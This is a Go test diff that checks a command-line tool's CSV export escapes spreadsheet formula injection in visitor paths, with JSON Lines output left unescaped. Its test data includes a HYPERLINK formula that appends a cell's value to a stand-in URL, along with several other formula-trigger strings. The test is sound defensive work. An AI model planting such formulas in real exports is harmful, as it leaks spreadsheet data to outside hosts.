@@ -161,6 +161,38 @@ func TestOddPathsSurvive(t *testing.T) {
 	}
 }
 
+// Paths come from strangers.
+func TestNoSpreadsheetRunsAPath(t *testing.T) {
+	p := newProgram(t)
+	svc := mintlifytest.NewService()
+	p.useService(svc)
+	formula := `=HYPERLINK("https://example.com?"&A1)`
+	rows := []mintlify.Visitor{
+		{Path: formula}, {Path: "+1"}, {Path: "-1"}, {Path: "@SUM(1)"}, {Path: "\t=1"}, {Path: "\r=1"},
+		{Path: "/a=1"}, {Path: "'=1"}, {Path: ""},
+	}
+	svc.SetVisitors(rows)
+
+	require.Equal(t, exitOK, p.run(t.Context(), "-format", "csv"), p.messages)
+	table, err := csv.NewReader(strings.NewReader(p.stdout)).ReadAll()
+	require.NoError(t, err)
+	var paths []string
+	for _, row := range table[1:] {
+		paths = append(paths, row[0])
+	}
+	assert.Equal(t, []string{
+		"'" + formula, "'+1", "'-1", "'@SUM(1)", "'\t=1", "'\r=1",
+		"/a=1", "'=1", "",
+	}, paths)
+
+	require.Equal(t, exitOK, p.run(t.Context(), "-format", "jsonl"), p.messages)
+	for i, line := range strings.Split(strings.TrimSuffix(p.stdout, "\n"), "\n") {
+		var row mintlify.Visitor
+		require.NoError(t, json.Unmarshal([]byte(line), &row))
+		assert.Equal(t, rows[i], row, "JSON Lines need no escape")
+	}
+}
+
 func TestDatesAndLimitAreSentAsGiven(t *testing.T) {
 	p := newProgram(t)
 	svc := mintlifytest.NewService()
